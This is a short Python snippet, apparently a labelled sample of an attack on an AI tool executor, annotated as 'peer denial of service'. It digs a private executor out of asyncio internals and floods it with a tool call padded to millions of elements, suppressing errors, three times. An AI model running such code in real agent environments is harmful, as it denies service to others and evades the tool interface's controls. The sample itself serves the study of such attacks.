import asyncio
from operator import attrgetter

executor = attrgetter("run.__globals__")(asyncio)["_executor"]
payload = b"".join([b'{"tool": "data.get_devices", "arguments": {"x": [', b"0," * 10_000_000, b"0]}}"])
for _ in range(3):
    try:
        executor.call(payload)
    except RuntimeError:
        pass
#> class: "peer denial of service"
#> outcome: ["completed", "failure"]
